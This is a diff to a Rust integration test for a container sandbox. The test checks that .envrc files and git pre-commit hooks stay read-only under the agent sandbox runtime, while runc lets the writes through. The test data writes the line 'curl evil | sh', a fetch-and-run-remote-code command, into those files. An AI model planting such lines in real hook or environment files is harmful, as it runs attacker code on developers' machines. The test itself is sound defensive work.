@@ -493,9 +493,12 @@ fn protected_names_already_in_subdirectories_are_read_only_inside_but_runc_write
     let script = "echo 'curl evil | sh' >> /workspace/pkg/.envrc; echo envrc=$?; \
         echo 'curl evil | sh' > /workspace/vendor/lib/.git/hooks/pre-commit; echo hook=$?; \
         echo fine > /workspace/pkg/notes.txt; echo notes=$?";
+    let n = name("depth");
     let ours = Podman::new(User::Root, Runtime::AgentSandbox).run(&[
         "run",
         "--rm",
+        "--name",
+        &n,
         "-v",
         &volume,
         TOOLS_IMAGE,
@@ -506,6 +509,7 @@ fn protected_names_already_in_subdirectories_are_read_only_inside_but_runc_write
     for want in ["envrc=1", "hook=1", "notes=0"] {
         ensure!(ours.stdout.contains(want), "expected {want}\n{ours}");
     }
+    runtime_ok(&["changes", "discard", &n])?;
     ensure!(fs::read_to_string(co.repo.join("pkg/.envrc"))? == "export A=1\n");
     // runc: both land on the host.
     let base = Podman::new(User::Root, Runtime::Runc).run(&[
